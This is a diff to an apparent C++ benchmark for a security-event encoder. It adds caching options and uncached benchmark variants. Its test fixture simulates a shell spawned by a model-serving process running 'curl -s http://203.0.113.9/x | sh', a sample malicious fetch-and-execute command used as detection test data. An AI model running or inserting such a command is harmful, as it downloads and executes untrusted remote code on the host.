@@ -25,7 +25,7 @@ struct Scene {
     RuleMatch rule;
     EcsEncoder encoder;
 
-    static EcsEncoder make_encoder() {
+    static EcsEncoder make_encoder(bool cache) {
         HostInfo h;
         h.hostname = h.name = "gpu-node-1";
         h.id = "0123456789abcdef0123456789abcdef";
@@ -40,18 +40,23 @@ struct Scene {
         AgentInfo a = make_agent_info(h, "0.1.0");
         EcsEncoderOptions o;
         o.clock = fixed_clock;
+        o.cache_fragments = cache;
         return EcsEncoder(h, a, o);
     }
 
-    Scene() : encoder(make_encoder()) {
+    explicit Scene(bool cache = true) : encoder(make_encoder(cache)) {
         init = Process{1, 0, 1'000'000'000, 0, 0, 0, 0, 0, "aW5pdC1lbnRpdHktaWQtMQ", "/usr/lib/systemd/systemd",
-                       "systemd", {"/sbin/init"}, false, "/", "/init.scope", false, 0, 0};
+                       "systemd", {"/sbin/init"}, false, "/", "/init.scope", false, 0, 0, 0};
         server = Process{4100, 1, 60'000'000'000, 1'000'000'000, 1001, 1002, 7777, 3, "c2VydmVyLWVudGl0eS1pZA",
                          "/usr/bin/python3.11", "python3", {"python3", "serve.py", "--model", "/opt/models/resnet50.pt",
-                         "--port", "8080"}, false, "/opt/serve", "/system.slice/torchserve.service", false, 0, 0};
+                         "--port", "8080"}, false, "/opt/serve", "/system.slice/torchserve.service", false, 0, 0, 0};
         shell = Process{4242, 4100, 61'250'000'000, 60'000'000'000, 1001, 1002, 7777, 3, "c2hlbGwtZW50aXR5LWlkLTQ",
                         "/usr/bin/dash", "sh", {"/bin/sh", "-c", "curl -s http://203.0.113.9/x | sh"}, false,
-                        "/opt/serve", "/system.slice/torchserve.service", false, 0, 0};
+                        "/opt/serve", "/system.slice/torchserve.service", false, 0, 0, 0};
+        // As a ProcessTable stamps them: the encoder caches their fragments by revision.
+        init.revision = 1;
+        server.revision = 2;
+        shell.revision = 3;
         chain = {&server, &init};
         server_chain = {&init};
         rule.id = "MW-EXEC-001";
@@ -127,12 +132,26 @@ void BM_EncodeAlert(benchmark::State& state) {
 }
 BENCHMARK(BM_EncodeAlert);
 
+void BM_EncodeAlertUncached(benchmark::State& state) {
+    Scene s(false);
+    SecurityEvent ev = s.alert();
+    run(state, ev, s.encoder);
+}
+BENCHMARK(BM_EncodeAlertUncached);
+
 void BM_EncodeTelemetry(benchmark::State& state) {
     Scene s;
     SecurityEvent ev = s.telemetry();
     run(state, ev, s.encoder);
 }
 BENCHMARK(BM_EncodeTelemetry);
+
+void BM_EncodeTelemetryUncached(benchmark::State& state) {
+    Scene s(false);
+    SecurityEvent ev = s.telemetry();
+    run(state, ev, s.encoder);
+}
+BENCHMARK(BM_EncodeTelemetryUncached);
 
 void BM_EncodeAndWriteTelemetry(benchmark::State& state) {
     Scene s;
